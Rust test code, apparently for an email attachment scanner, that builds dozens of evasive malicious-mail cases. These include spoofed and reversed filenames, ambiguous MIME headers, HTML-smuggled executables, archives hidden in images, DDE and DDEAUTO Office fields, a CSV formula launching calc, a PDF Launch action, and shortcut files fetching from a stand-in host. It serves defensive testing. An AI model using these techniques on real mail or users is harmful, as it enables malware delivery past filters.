//! Relatives of what was tried before: written by somebody who had seen the classes of this corpus, and not the walk.

use super::carriers::{document, program, zipped};
use super::expected::{Bad, End, bad};
use crate::mail::{attached, base64, gzipped};
use weir_scan::test_files;

const ANY: &[End] = &[End::Forbidden, End::Infected, End::NotOpened];
const HEAD: &str = "From: Accounts <accounts@a.example>\r\nTo: bob@b.example\r\nSubject: Payment advice\r\nDate: Tue, 17 Nov 2026 10:00:00 +0000\r\nMIME-Version: 1.0\r\n";
const SCRIPT: &[u8] = b"var s = new ActiveXObject('WScript.Shell');\r\ns.Run('cmd /c calc.exe');\r\n";

pub(crate) fn all() -> Vec<Bad> {
    [names(), fields(), pieces(), pages(), packed(), shells(), documents()].into_iter().flatten().collect()
}

fn lines(data: &[u8]) -> String {
    String::from_utf8(base64(data)).unwrap()
}

fn one(data: &[u8]) -> String {
    lines(data).split_whitespace().collect()
}

fn relative(name: &str, message: Vec<u8>) -> Bad {
    bad("relative", name, message, ANY, "")
}

/// A message with one part beside its text, which has these fields.
fn with_fields(fields: &str, body: &str) -> Vec<u8> {
    format!(
        "{HEAD}Content-Type: multipart/mixed; boundary=BB\r\n\r\n--BB\r\nContent-Type: text/plain\r\n\r\nsee attached\r\n\
         --BB\r\n{fields}\r\n\r\n{body}\r\n--BB--\r\n"
    )
    .into_bytes()
}

/// Names that only some readers put together.
fn names() -> Vec<Bad> {
    [
        ("a name written backwards", "attachment; filename*=UTF-8''invoice%E2%80%AEfdp.js"),
        ("dots and blanks at the end", "attachment; filename=\"invoice.js . . \""),
        ("an octet of zero in a name", "attachment; filename*=UTF-8''invoice.js%00.pdf"),
        ("a stream of a file", "attachment; filename=\"invoice.js::$DATA\""),
        ("pieces of a name out of order", "attachment; filename*1=\"ice.js\"; filename*0=\"invo\""),
        ("pieces in two ways of writing", "attachment; filename*0*=UTF-8''invo; filename*1=\"ice.\"; filename*2*=%6a%73"),
        ("two names", "attachment; filename=\"a.pdf\"; filename=\"a.js\""),
        ("an encoded word as a name", "attachment; filename=\"=?utf-8?Q?invoice=2Ejs?=\""),
        ("single quotes", "attachment; filename='invoice.js'"),
        ("blanks without quotes", "attachment; filename=pay advice.js"),
        ("percent signs", "attachment; filename=\"invoice%2Ejs\""),
        ("a name in a location", "attachment\r\nContent-Location: http://a.example/invoice.js"),
        ("a name in a description", "attachment\r\nContent-Description: invoice.js"),
    ]
    .into_iter()
    .map(|(name, disposition)| {
        let fields = format!(
            "Content-Type: application/octet-stream\r\nContent-Disposition: {disposition}\r\nContent-Transfer-Encoding: base64"
        );
        relative(name, with_fields(&fields, &lines(SCRIPT)))
    })
    .collect()
}

/// Header fields that programs read in different ways.
fn fields() -> Vec<Bad> {
    let part = format!(
        "--BB\r\nContent-Disposition: attachment; filename=a.js\r\nContent-Transfer-Encoding: base64\r\n\r\n{}\r\n--BB--\r\n",
        lines(SCRIPT)
    );
    let whole = |fields: &str| format!("{HEAD}{fields}\r\n\r\n{part}").into_bytes();
    let file = |encoding: &str, body: &str| {
        let fields = format!(
            "Content-Type: application/octet-stream; name=a.dat\r\nContent-Disposition: attachment; filename=a.dat\r\n\
             Content-Transfer-Encoding: {encoding}"
        );
        with_fields(&fields, body)
    };
    let (exe, apart) = (program(), one(&program()));
    let noisy: String = apart.chars().flat_map(|letter| [letter, '!']).collect();
    let halves = format!("{}\r\n{}", one(&exe[..31]), one(&exe[31..]));
    let mut deep = whole("Content-Type: multipart/mixed; boundary=BB");
    for _ in 0..60 {
        deep = [format!("{HEAD}Content-Type: message/rfc822\r\n\r\n").as_bytes(), &deep].concat();
    }
    vec![
        relative("two types", whole("Content-Type: text/plain\r\nContent-Type: multipart/mixed; boundary=BB")),
        relative("a blank before the colon", whole("Content-Type : multipart/mixed; boundary=BB")),
        relative("two boundaries", whole("Content-Type: multipart/mixed; boundary=AA; boundary=BB")),
        relative("a boundary in pieces", whole("Content-Type: multipart/mixed; boundary*0=B; boundary*1=B")),
        relative("an encoded boundary", whole("Content-Type: multipart/mixed; boundary*=us-ascii''B%42")),
        relative("a type with a zero in it", whole("Content-Type: multi\0part/mixed; boundary=BB")),
        relative("an encoding behind a comment", file("(c) base64", &apart)),
        relative("an encoding of nobody's", file("x-base64", &apart)),
        relative("two encodings", file("7bit\r\nContent-Transfer-Encoding: base64", &apart)),
        relative("letters that base64 does not have", file("base64", &noisy)),
        relative("base64 that ends in the middle", file("base64", &halves)),
        relative("sixty messages in each other", deep),
    ]
}

/// Pieces of archives, of which each alone shows nothing.
fn pieces() -> Vec<Bad> {
    // Packed data has no mark of its own.
    let middle: Vec<u8> = (0..4_000u32).map(|n| (n.wrapping_mul(2_654_435_761) >> 13) as u8).collect();
    ["a.7z.002", "a.zip.003", "a.z01", "a.r00", "a.tar.gz.002"]
        .into_iter()
        .map(|name| relative(&format!("a piece of an archive, {name}"), attached(name, &middle)))
        .collect()
}

fn page(name: &str, script: &str) -> Bad {
    let text = format!("<!DOCTYPE html>\n<html><head><title>Fax</title></head><body>{script}</body></html>");
    relative(name, attached("Fax_0417.html", text.as_bytes()))
}

/// Pages that put a file together.
fn pages() -> Vec<Bad> {
    let exe = program();
    let (plain, archive) = (one(&exe), one(&zipped("invoice.js", SCRIPT)));
    let hex: String = exe.iter().map(|octet| format!("\\x{octet:02x}")).collect();
    let octal: String = exe.iter().map(|octet| format!("\\{octet:03o}")).collect();
    let numbers = exe.iter().map(u8::to_string).collect::<Vec<_>>().join(",");
    let backwards: String = plain.chars().rev().collect();
    let apart = plain.as_bytes().chunks(50).map(|piece| std::str::from_utf8(piece).unwrap()).collect::<Vec<_>>();
    let noise = "\"\\".repeat(5_000);
    vec![
        page("a program in escapes", &format!("<script>var d=\"{hex}\";new Blob([d])</script>")),
        page("a program in octal escapes", &format!("<script>var d='{octal}';new Blob([d])</script>")),
        page(
            "a program in the attributes of many elements",
            &format!(
                "{}<script>q()</script>",
                apart.iter().map(|piece| format!("<i data-x=\"{piece}\"></i>")).collect::<String>()
            ),
        ),
        page(
            "a program in numbers",
            &format!("<script>navigator.msSaveBlob(new Blob([new Uint8Array([{numbers}])]),'a')</script>"),
        ),
        page("a program backwards", &format!("<script>var d='{backwards}'.split('').reverse().join('')</script>")),
        page("a program in templates", &format!("<script>const p=`{}`;saveAs(atob(p))</script>", apart.join("`+`"))),
        page(
            "a program behind quotes without an end",
            &format!("<script>{noise}\nnew Blob([atob('{plain}')])</script>"),
        ),
        page(
            "a program in a hidden field",
            &format!("<input type=hidden id=q value=\"{plain}\"><script>window['at'+'ob'](q.value)</script>"),
        ),
        page(
            "a page in a page",
            &format!(
                "<iframe src=\"data:text/html;base64,{}\"></iframe>",
                one(format!("<script>new Blob([atob('{plain}')])</script>").as_bytes())
            ),
        ),
        page(
            "an archive to be downloaded",
            &format!("<a download=doc.zip href=\"data:application/zip;base64,{archive}\">fax</a>"),
        ),
        page(
            "an archive that a refresh brings",
            &format!("<meta http-equiv=refresh content=\"0;url=data:application/zip;base64,{archive}\">"),
        ),
        page(
            "a search at another machine",
            "<script>location.href='search-ms:query=Fax&crumb=location:\\\\\\\\a.example@80\\\\s'</script>",
        ),
    ]
}

/// What is packed in ways that nobody undoes, or that only the name tells.
fn packed() -> Vec<Bad> {
    let text = format!("<html><script>new Blob([atob('{}')])</script></html>", one(&program()));
    let coded = |coding: &str| {
        let fields = format!(
            "Content-Type: text/html; name=fax.html\r\nContent-Encoding: {coding}\r\nContent-Transfer-Encoding: base64"
        );
        // What comes out of a packer that has no mark.
        with_fields(&fields, &lines(&[0x1b, 0x57, 0x03, 0, 0x8c, 0x14, 0x6f, 0x3a, 0x90, 0xb1, 0x44, 0x08]))
    };
    vec![
        relative(
            "a page packed with brotli",
            attached("fax.html.br", &[0x1b, 0x57, 0x03, 0, 0x8c, 0x14, 0x6f, 0x3a, 0x90]),
        ),
        relative("a part that says it is brotli", coded("br")),
        relative("a part that says it is deflate", coded("deflate")),
        relative("a packed page", attached("fax.html.gz", &gzipped(text.as_bytes()))),
        relative(
            "a packed picture with a script",
            attached(
                "fax.svgz",
                &gzipped(
                    format!(
                        "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>new Blob([atob('{}')])</script></svg>",
                        one(&program())
                    )
                    .as_bytes(),
                ),
            ),
        ),
        relative(
            "an archive behind a picture",
            attached(
                "photo.jpg",
                &[b"\xff\xd8\xff\xe0\0\x10JFIF\0".as_slice(), &[0; 2_000], b"\xff\xd9", &zipped("invoice.js", SCRIPT)]
                    .concat(),
            ),
        ),
        relative(
            "the worse archive first",
            attached("a.zip", &[zipped("invoice.js", SCRIPT), zipped("a.txt", b"hello")].concat()),
        ),
        relative(
            "the worse archive last",
            attached("a.zip", &[zipped("a.txt", b"hello"), zipped("invoice.js", SCRIPT)].concat()),
        ),
        relative(
            "an archive behind much else",
            attached("a.zip", &[vec![b'x'; 300_000], zipped("invoice.js", SCRIPT)].concat()),
        ),
        relative("a file of Outlook's mail", attached("old.dat", &[b"!BDN".as_slice(), &[7; 600]].concat())),
        relative(
            "an image of macOS",
            attached("a.dat", &[[7; 600].as_slice(), b"koly\0\0\0\x04\0\0\x02\0", &[0; 500]].concat()),
        ),
        relative(
            "an image of a disc that is called a picture",
            attached("photo.png", &test_files::iso("a.js", SCRIPT)),
        ),
    ]
}

/// Small files that a click runs.
fn shells() -> Vec<Bad> {
    [
        ("a.url", "[InternetShortcut]\r\nURL=file://a.example/share/a.exe\r\n"),
        ("a.settingcontent-ms", "<PCSettings><ApplicationInformation><DeepLink>%windir%\\system32\\cmd.exe</DeepLink></ApplicationInformation></PCSettings>"),
        ("a.library-ms", "<libraryDescription><url>\\\\a.example\\s</url></libraryDescription>"),
        ("a.searchConnector-ms", "<searchConnectorDescription/>"),
        ("a.rdp", "full address:s:a.example\r\nremoteapplicationprogram:s:||x\r\n"),
        ("a.appinstaller", "<AppInstaller Uri=\"http://a.example/a.msix\"/>"),
        ("a.jnlp", "<jnlp codebase=\"http://a.example/\"/>"),
        ("a.scf", "[Shell]\r\nCommand=2\r\nIconFile=\\\\a.example\\a.ico\r\n"),
        ("a.msc", "<?xml version=\"1.0\"?><MMC_ConsoleFile/>"),
        ("a.wsh", "[ScriptFile]\r\nPath=a.vbs\r\n"),
        ("a.sct", "<scriptlet><script>x</script></scriptlet>"),
        ("a.iqy", "WEB\r\n1\r\nhttp://a.example/a.txt\r\n"),
        ("a.slk", "ID;P\r\nC;X1;Y1;EEXEC(\"CALC.EXE\")\r\nE\r\n"),
    ]
    .into_iter()
    .map(|(name, text)| relative(name, attached(name, text.as_bytes())))
    .chain([relative(
        "a shortcut into the web in an archive",
        attached("a.zip", &zipped("Invoice.url", b"[InternetShortcut]\r\nURL=file://a.example@80/a.js\r\n")),
    )])
    .collect()
}

/// Documents with more in them than text.
fn documents() -> Vec<Bad> {
    let pdf =
        |catalog: &str| format!("%PDF-1.7\n1 0 obj\n{catalog}\nendobj\ntrailer<</Root 1 0 R>>\n%%EOF\n").into_bytes();
    let links = |kind: &str, target: &str| {
        format!(
            "<Relationships><Relationship Id=\"r1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}\" \
             Target=\"{target}\" TargetMode=\"External\"/></Relationships>"
        )
    };
    let remote = links("oleObject", "mhtml:http://a.example/a.html!x-usc:http://a.example/a.html");
    let saved = format!(
        "MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=x\r\n\r\n--x\r\nContent-Type: text/html\r\n\r\n<p>x</p>\r\n--x\r\n\
         Content-Type: application/octet-stream; name=a.exe\r\nContent-Transfer-Encoding: base64\r\n\r\n{}\r\n--x--\r\n",
        lines(&program())
    );
    vec![
        relative(
            "a PDF that starts a program, in other letters",
            attached("a.pdf", &pdf("<</Type/Catalog/OpenAction<</S/#4c#61#75nch/Win<</F(cmd.exe)>>>>>>")),
        ),
        relative(
            "an object that is a page elsewhere",
            attached(
                "a.docx",
                &document(&[("word/document.xml", "<w:document/>"), ("word/_rels/document.xml.rels", &remote)]),
            ),
        ),
        relative(
            "a command in two pieces of a field",
            attached(
                "a.docx",
                &document(&[(
                    "word/document.xml",
                    "<w:document><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>EAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"</w:instrText></w:r></w:document>",
                )]),
            ),
        ),
        relative(
            "a link that starts a program",
            attached(
                "a.xlsx",
                &document(&[
                    ("xl/workbook.xml", "<workbook/>"),
                    (
                        "xl/externalLinks/externalLink1.xml",
                        "<externalLink><ddeLink ddeService=\"cmd\" ddeTopic=\"/c calc\"/></externalLink>",
                    ),
                ]),
            ),
        ),
        relative("a formula that starts a program", attached("a.csv", b"name,amount\r\n\"=cmd|'/c calc'!A0\",3\r\n")),
        relative("a saved page with a program", attached("a.mht", saved.as_bytes())),
    ]
}
